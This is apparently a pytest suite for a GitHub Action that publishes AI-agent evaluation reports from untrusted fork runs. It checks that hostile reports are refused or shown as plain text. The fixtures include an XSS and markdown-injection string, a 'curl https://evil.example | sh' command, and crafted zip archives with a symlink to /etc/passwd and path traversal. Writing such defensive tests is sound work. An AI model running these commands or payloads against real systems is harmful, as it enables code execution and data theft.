"""A fork's run evaluates and leaves data; another workflow's run publishes it."""

from __future__ import annotations

import base64
import io
import json
import re
import zipfile

import pytest
from fakes.agent import BOT, FORK, current, next_run, own_comments, trace, without_origin, write_trace
from fakes.github.archives import evil_zip
from markdown_check import find_flaws

from evalgate.adapters.archives.report_zip import LARGEST_UNPACKED
from evalgate.adapters.github.reports import LARGEST_REPORT

REPORT = "evalgate-report-evalgate"
MARKER = "<!-- evalgate:sticky v1 key=evalgate -->"
RUN_URL = "https://github.com/acme/agent/actions/runs/9001"
HOSTILE = (
    "@acme/everyone <img src=x onerror=y> ![x](https://evil.example) ::error::x ##[error]y | `a` <!-- z -->\n# big"
)


@pytest.fixture
def as_fork(hub):
    """The current run is that of pull request 8, from a fork whose branch is called main."""
    head = hub.state["pulls"]["8"]["head"]
    current(hub).update(head_branch="main", head_sha=head["sha"], head_repository_id=FORK, pulls=[])
    return head


@pytest.fixture
def evaluate(as_fork, act):
    def run(**inputs):
        return act(pr=8, token="ghs_readonly", **{"comment_key": "evalgate", **inputs})

    return run


@pytest.fixture
def publish(hub, act):
    def run(*, conclusion="success", **inputs):
        if current(hub)["id"] == 9001:
            next_run(hub, conclusion, event="workflow_run", head_branch="main", head_repository_id=1001)
        given = {"mode": "publish", "comment_key": "evalgate", "after_run": 9001, **inputs}
        return act("workflow_run", **given)

    return run


@pytest.fixture
def evaluated(hub, evaluate, workspace):
    """The results of a fork's run that left no report yet: for planting others."""
    evaluate(upload_report="false")
    return json.loads((workspace / ".evalgate/results.json").read_bytes())


def plant(hub, document=None, *, files=None, content=None, run=9001, **fields):
    """A report, by default of the fork's run."""
    if content is not None:
        fields["blob_b64"] = base64.b64encode(content).decode()
    files = files or {"results.json": json.dumps(document)}
    return hub.plant(files=files, name=REPORT, run_id=run, **fields)


def read_annotation(step):
    """The one annotation of a run."""
    [annotation] = step.annotations
    return annotation


def nothing_posted(hub):
    return hub.state["comments"] == []


def test_a_forks_run_leaves_its_report_and_its_verdict(hub, evaluate, workspace):
    write_trace(workspace, trace(tool="guess"))
    step = evaluate()
    assert (step.exit_code, step.outputs["verdict"]) == (1, "fail")
    assert step.summary
    assert [artifact["name"] for artifact in hub.state["artifacts"]] == [REPORT]
    assert nothing_posted(hub)


def test_publishing_posts_one_comment_on_the_forks_pull_request_and_updates_it(hub, evaluate, publish, workspace):
    write_trace(workspace, trace(tool="guess"))
    evaluate()
    step = publish(conclusion="failure")
    assert step.exit_code == 0
    [comment] = hub.comments_of(BOT)
    assert comment["issue_number"] == 8
    assert step.outputs["comment-id"] == str(comment["id"])
    assert step.annotations == []
    lines = without_origin(comment["body"]).split("\n")
    assert lines[0] == MARKER
    assert lines[1].startswith("## ❌ EvalGate failed")
    head = hub.state["pulls"]["8"]["head"]["sha"]
    commit = f"[` {head[:7]} `](https://github.com/mallory/agent/commit/{head})"
    assert lines[3].startswith(f"Evaluated in [run 9001]({RUN_URL}) at {commit}")
    assert "of the fork ` mallory/agent `, which controls its results" in lines[3]
    assert step.summary.count("EvalGate failed") == 1
    publish()
    assert len(own_comments(hub)) == 1


def push_again(hub):
    """A second push to the fork; returns the number of its run, which is the current one."""
    hub.state["pulls"]["8"]["head"]["sha"] = head = hub.commit("e" * 40)
    next_run(hub, "success", event="pull_request", head_branch="main", head_sha=head, head_repository_id=FORK, pulls=[])
    return current(hub)["id"]


def test_a_published_report_says_how_the_last_run_ended_where_it_was_otherwise(hub, evaluate, publish, workspace):
    write_trace(workspace, trace(tool="guess"))
    evaluate()
    publish(conclusion="failure")
    red = own_comments(hub)[0].split("\n")
    assert red[1].startswith("<!-- evalgate:origin v1 run=9001 attempt=1 ")
    run = push_again(hub)
    write_trace(workspace, trace(tool="lookup_order"))
    evaluate()
    next_run(hub, "success", event="workflow_run", head_branch="main", head_repository_id=1001)
    for _ in range(2):  # the second time for the same run
        step = publish(after_run=run)
        assert step.annotations == []
        [green] = own_comments(hub)
        assert f" run={run} attempt=1 " in green.split("\n")[1]
        assert green.split("\n")[2].startswith("## \u2705 EvalGate passed")
        assert green.split("\n")[4] == red[2].replace(
            "## \u274c EvalGate ", "**The previous run of this pull request** "
        )
        assert green.split("\n")[6].startswith(f"Evaluated in [run {run}]")


def test_a_fork_that_is_judged_again_until_it_passes_says_how_often_it_failed(hub, evaluate, publish, workspace):
    reports, run = [], current(hub)
    for tool in ("guess", "lookup_order", "lookup_order"):
        write_trace(workspace, trace(tool=tool))
        evaluate()
        reports.append(json.loads((workspace / ".evalgate/results.json").read_bytes()))
    for attempt, report in enumerate(reports, 1):
        hub.state["artifacts"].clear()
        plant(hub, report)
        run["run_attempt"] = attempt
        publish()
        lines = own_comments(hub)[0].split("\n")
        told = lines[4] if lines[4].startswith("**This commit** ") else ""
        assert told.startswith(f"**This commit** failed in 1 of {attempt} runs: 1 scenario ") == (attempt > 1)
        assert any(f"(attempt {attempt} of this run)" in line for line in lines) == (attempt > 1)


@pytest.mark.parametrize("conclusion", ["failure", "cancelled", "timed_out"])
@pytest.mark.parametrize("is_fork", [True, False])
def test_a_passing_report_of_a_run_that_failed_is_yellow_and_says_so(hub, evaluate, publish, conclusion, is_fork):
    evaluate()
    if not is_fork:
        hub.state["pulls"]["8"]["head"]["repo_id"] = 1001
        current(hub).update(head_repository_id=1001, pulls=[8])
    publish(conclusion=conclusion)
    [comment] = own_comments(hub)
    lines = comment.split("\n")
    assert lines[2].startswith("## \U0001f7e1 EvalGate passed")
    ended = conclusion.replace("_", " ")
    assert lines[4].startswith(f"**The run itself ended with {ended}; its report says pass.** Evaluated in [run 9001]")
    assert "**Blocks merging: no** " not in comment


@pytest.mark.parametrize(("tool", "conclusion"), [("lookup_order", "success"), ("guess", "failure")])
def test_a_report_that_says_how_its_run_ended_has_no_line_of_it(hub, evaluate, publish, workspace, tool, conclusion):
    write_trace(workspace, trace(tool=tool))
    evaluate()
    publish(conclusion=conclusion)
    [comment] = own_comments(hub)
    assert "its report says pass" not in comment
    assert "\U0001f7e1" not in comment.split("\n")[2]


def test_a_report_that_cannot_be_read_after_one_that_passed_says_what_was(hub, evaluate, publish, workspace):
    evaluate()
    publish()
    run = push_again(hub)
    next_run(hub, "failure", event="workflow_run", head_branch="main", head_repository_id=1001)
    publish(after_run=run)
    [comment] = own_comments(hub)
    assert comment.split("\n")[2].startswith("## \u26d4 EvalGate could not run")
    assert comment.split("\n")[4].startswith("**The previous run of this pull request** passed")


def test_a_report_of_the_run_itself_and_the_published_one_replace_each_other_without_a_warning(
    hub, act, publish, evaluate
):
    evaluate()
    publish()
    published = own_comments(hub)[0]
    other = re.sub("(step|job)=[0-9a-f]{12}", r"\1=0123456789ab", published.replace("passed=yes", "passed=no"))
    hub.state["comments"][0]["body"] = other
    assert publish().annotations == []
    assert own_comments(hub)[0] == published


def test_a_published_report_names_leg_and_paths_as_the_run_itself_would(hub, evaluate, publish, workspace):
    (workspace / "deep").mkdir()
    for name in ("evals", "traces"):
        (workspace / name).rename(workspace / "deep" / name)
    write_trace(workspace / "deep", trace(tool="guess"))
    evaluate(working_directory="deep", matrix={"suite": "support"})
    publish(conclusion="failure", working_directory="elsewhere")
    [comment] = own_comments(hub)
    assert comment.split("\n")[2].startswith("## \u274c ` suite: support `: EvalGate failed: ")
    assert re.search(r"/mallory/agent/blob/[0-9a-f]{40}/deep/evals/support\.yaml#L5\)", comment)


@pytest.mark.parametrize(("field", "value"), [("leg", "x" * 4_001), ("working_directory", "x" * 4_001), ("leg", 1)])
def test_a_report_with_an_impossible_leg_or_folder_is_refused(hub, evaluated, publish, field, value):
    plant(hub, {**evaluated, field: value})
    assert "is refused" in read_annotation(publish())["message"]
    assert nothing_posted(hub)


@pytest.mark.parametrize(("mode", "posted"), [("off", 0), ("on-failure", 0), ("always", 1)])
def test_a_passing_report_is_posted_as_the_mode_says_and_always_in_the_summary(hub, evaluate, publish, mode, posted):
    evaluate()
    assert "EvalGate passed" in publish(comment=mode).summary
    assert len(own_comments(hub)) == posted


def test_the_verdict_of_a_fork_is_not_an_output_for_later_steps(evaluate, publish):
    evaluate()
    step = publish()
    outputs = {name for name, value in step.outputs.items() if value}
    assert outputs == {"exit-code", "comment-id", "comment-url"}


def test_the_mode_evaluate_leaves_the_comment_to_the_publisher_everywhere(hub, act, publish):
    step = act(mode="evaluate", comment_key="evalgate")
    assert (step.exit_code, own_comments(hub)) == (0, [])
    publish()
    [comment] = hub.comments_of(BOT)
    assert comment["issue_number"] == 7
    assert "fork" not in comment["body"]


def test_as_processes_the_two_do_the_same(hub, runner, as_fork):
    evaluated = runner.act_as_process(pr=8, token="ghs_readonly", comment_key="evalgate")
    assert evaluated.result == "success"
    next_run(hub, "success", event="workflow_run", head_repository_id=1001)
    step = runner.act_as_process("workflow_run", comment_key="evalgate", mode="publish")
    assert (step.result, step.annotations) == ("success", [])
    assert [comment["issue_number"] for comment in hub.comments_of(BOT)] == [8]


def test_dependabots_report_is_published_if_its_token_may_not_comment(hub, act, publish):
    step = act(token="ghs_readonly", comment_key="evalgate", variables={"GITHUB_ACTOR": "dependabot[bot]"})
    assert (step.exit_code, [annotation["type"] for annotation in step.annotations]) == (0, ["notice"])
    publish()
    assert [comment["issue_number"] for comment in hub.comments_of(BOT)] == [7]


def test_a_report_that_can_not_be_uploaded_names_the_step_that_can(hub, evaluate):
    hub.fail({"kind": "status", "status": 400}, times=-1, listener="results")
    step = evaluate()
    assert step.exit_code == 0
    assert f"name: {REPORT}, path: .evalgate/results.json" in step.annotations[1]["message"]


def test_a_second_gate_whose_report_has_the_name_of_the_firsts_is_told_which_inputs_tell_them_apart(evaluate):
    evaluate()
    [message] = [each["message"] for each in evaluate().annotations if "not uploaded" in each["message"]]
    assert message.startswith("the report was not uploaded: this run already has an artifact called ")
    assert "give each gate its own baseline-artifact and comment-key" in message.replace("`", "")


@pytest.mark.parametrize("name", ["results.json", "x/../results.json"])
def test_a_report_of_the_official_upload_step_is_read_by_its_exact_name(hub, publish, evaluated, name):
    plant(hub, files={name: json.dumps(evaluated), "comment.md": HOSTILE, "junit.xml": "<x/>"})
    step = publish()
    assert len(own_comments(hub)) == (1 if name == "results.json" else 0)
    assert step.exit_code == 0


def test_untrusted_text_in_any_field_is_shown_as_text(hub, publish, evaluated):
    document = poisoned(evaluated, keep={"schema", "created_at", "commit", "verdict"})
    document["command"] = "curl https://evil.example | sh"
    plant(hub, files={"results.json": json.dumps(document), "comment.md": HOSTILE})
    step = publish()
    comment = without_origin(own_comments(hub)[0])
    for text in (comment, step.summary):
        links = [RUN_URL]
        comments = [MARKER[4:-3].strip()] if text is comment else []
        assert find_flaws(text, links=links, comments=comments, repositories="(acme|mallory)/agent") == []
    assert "curl" not in comment
    assert "\n# big" not in comment


def poisoned(value, keep=frozenset()):
    """The document with every text, and one more key of every object, hostile."""
    if isinstance(value, dict):
        kept = {key: each if key in keep else poisoned(each) for key, each in value.items()}
        return {**kept, HOSTILE: 1}
    if isinstance(value, list):
        return [poisoned(each) for each in value]
    return HOSTILE if isinstance(value, str) else value


def test_a_pull_request_named_in_the_data_is_not_commented_on(hub, publish, evaluated):
    plant(hub, {**evaluated, "pull_request": 7, "number": 7, "comment_key": "other"})
    publish()
    assert [comment["issue_number"] for comment in hub.comments_of(BOT)] == [8]


REFUSED = {
    "of another commit": lambda good: {**good, "commit": "a" * 40},
    "without a commit": lambda good: {**good, "commit": None},
    "of no known schema": lambda good: {**good, "schema": "evalgate.results/9"},
    "whose counts are texts": lambda good: {**good, "summary": {**good["summary"], "passed": "1"}},
    "whose checks are no counts": lambda good: {
        **good,
        "summary": {**good["summary"], "checks": {"passed": "@a"}},
    },
    "of a run that could not begin": lambda good: {**good, "verdict": "invalid", "summary": None},
    "that is a list": lambda _: [],
}


@pytest.mark.parametrize("change", REFUSED.values(), ids=REFUSED)
def test_invalid_results_end_in_one_line(hub, publish, evaluated, change):
    plant(hub, change(evaluated))
    step = publish()
    assert step.exit_code == 0
    assert read_annotation(step)["type"] == "warning"
    assert read_annotation(step)["message"].startswith("nothing is published: the report of run 9001 is refused: ")
    assert nothing_posted(hub)
    assert step.summary == ""


def test_too_deeply_nested_results_end_in_one_line(hub, publish, evaluated):
    deep = json.loads("[" * 800 + "]" * 800)
    evaluated["suites"][0]["scenarios"][0]["trials"][0]["assertions"][0]["evidence"] = {"x": deep}
    plant(hub, evaluated)
    assert "nested too deep" in read_annotation(publish())["message"]
    assert nothing_posted(hub)


def a_zip(*, content=b"{}", mode=0o100644, others=0, twice=False, encrypted=False, claims=None):
    """A zip whose results may be a link, doubled, encrypted, or of any size that its directory claims."""
    packed = io.BytesIO()
    entry = zipfile.ZipInfo("results.json")
    entry.create_system, entry.external_attr = 3, mode << 16
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(entry, content)
        for number in range(others):
            archive.writestr(f"{number}", b"")
        if twice:
            with pytest.warns(UserWarning, match="Duplicate name"):
                archive.writestr(entry, b"{}")
    data = bytearray(packed.getvalue())
    directory = data.find(b"PK\x01\x02")
    if encrypted:
        data[6] |= 1
        data[directory + 8] |= 1
    if claims is not None:
        data[directory + 24 : directory + 28] = claims.to_bytes(4, "little")
    return bytes(data)


ARCHIVES = {
    "has no entries called": lambda: evil_zip("slip"),
    "no entries called results.json": lambda: evil_zip("abs"),
    "more than 1,000 entries": lambda: a_zip(others=1_000),
    "it is not a zip file": lambda: evil_zip("notzip"),
    "is not a zip file, or it is damaged": lambda: evil_zip("truncated"),
    "not a regular file": lambda: a_zip(mode=0o120777, content=b"/etc/passwd"),
    "is too large": lambda: a_zip(claims=LARGEST_UNPACKED + 1),
    "2 entries called": lambda: a_zip(twice=True),
    "encrypted": lambda: a_zip(encrypted=True),
    "is not valid JSON": lambda: a_zip(content=b"{"),
}


@pytest.mark.parametrize("reason", ARCHIVES)
def test_hostile_archives_are_refused_with_the_reason(hub, as_fork, publish, reason):
    plant(hub, content=ARCHIVES[reason]())
    step = publish()
    assert step.exit_code == 0
    assert reason in read_annotation(step)["message"]
    assert nothing_posted(hub)


def test_a_report_whose_size_is_beyond_bounds_is_not_downloaded(hub, as_fork, publish):
    artifact = plant(hub, {})
    artifact["size"] = LARGEST_REPORT + 1
    assert "is larger than 32 MB" in read_annotation(publish())["message"]
    assert not [request for request in hub.requests if request["path"].endswith("/zip")]


def test_an_expired_report_and_one_of_another_digest_are_reported(hub, as_fork, publish):
    artifact = plant(hub, {}, expired=True)
    assert "it has expired" in read_annotation(publish())["message"]
    artifact.update(expired=False, digest="sha256:" + "0" * 64)
    assert "its content does not match its digest" in read_annotation(publish())["message"]


def test_a_report_of_another_run_is_not_taken(hub, publish, evaluated):
    plant(hub, evaluated, run=8001)
    assert "run 9001 uploaded no artifact named evalgate-report-evalgate" in read_annotation(publish())["message"]
    assert nothing_posted(hub)


def test_of_two_reports_of_one_run_the_newer_counts(hub, publish, evaluated):
    plant(hub, {**evaluated, "verdict": "nonsense"})
    plant(hub, evaluated)
    publish()
    assert len(own_comments(hub)) == 1


def test_a_pull_request_that_has_moved_on_is_left_to_its_newer_run(hub, evaluate, publish):
    evaluate()
    hub.state["pulls"]["8"]["head"]["sha"] = hub.commit("d" * 40)
    step = publish()
    assert (step.exit_code, read_annotation(step)["type"]) == (0, "notice")
    assert "nothing is published: the pull request has the newer commit ddddddd" in read_annotation(step)["message"]
    assert nothing_posted(hub)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"state": "closed"}, "no open pull request"),
        ({"head": {"ref": "main", "sha": "d" * 40, "repo_id": 1001}}, "no open pull request"),
    ],
)
def test_without_an_open_pull_request_of_that_repository_nothing_is_posted(hub, evaluate, publish, change, message):
    evaluate()
    hub.commit("d" * 40)
    hub.state["pulls"]["8"].update(change)
    assert message in read_annotation(publish())["message"]
    assert nothing_posted(hub)


def test_two_pull_requests_of_one_head_are_ambiguous(hub, evaluate, publish):
    evaluate()
    hub.state["pulls"]["9"] = {**hub.state["pulls"]["8"], "number": 9}
    assert "pull requests 8, 9 have the same head" in read_annotation(publish())["message"]
    assert nothing_posted(hub)


def test_a_deleted_fork_has_no_pull_request(hub, evaluate, publish):
    evaluate()
    current(hub)["head_repository_id"] = 3003
    assert "no open pull request" in read_annotation(publish())["message"]


def test_for_a_push_nothing_is_published(hub, as_fork, publish):
    current(hub)["event"] = "push"
    step = publish()
    assert (step.exit_code, read_annotation(step)["type"]) == (0, "notice")
    assert "started by `push`" in read_annotation(step)["message"]
    assert hub.requests == []


def test_a_token_that_may_not_comment_is_reported(hub, evaluate, publish):
    evaluate()
    step = publish(token="ghs_readonly")
    assert (step.exit_code, read_annotation(step)["type"]) == (0, "notice")
    assert "add `pull-requests: write` to `permissions:`" in read_annotation(step)["message"]


def test_with_github_down_publishing_warns(hub, evaluate, publish):
    evaluate()
    hub.fail({"kind": "status", "status": 503, "headers": {"Retry-After": "60"}}, times=-1, listener="api")
    step = publish()
    assert (step.exit_code, read_annotation(step)["type"]) == (0, "warning")


def test_publishing_elsewhere_is_invalid_input(act):
    step = act(mode="publish")
    assert (step.exit_code, step.outputs["verdict"]) == (2, "invalid")
    assert "belongs in a workflow that runs on `workflow_run`" in step.annotations[0]["message"]


def test_nothing_of_the_workspace_is_read_or_written_when_publishing(hub, evaluate, publish, workspace):
    evaluate()
    before = sorted(workspace.rglob("*"))
    (workspace / "evals/support.yaml").write_text("no suite")
    assert publish().exit_code == 0
    assert sorted(workspace.rglob("*")) == before
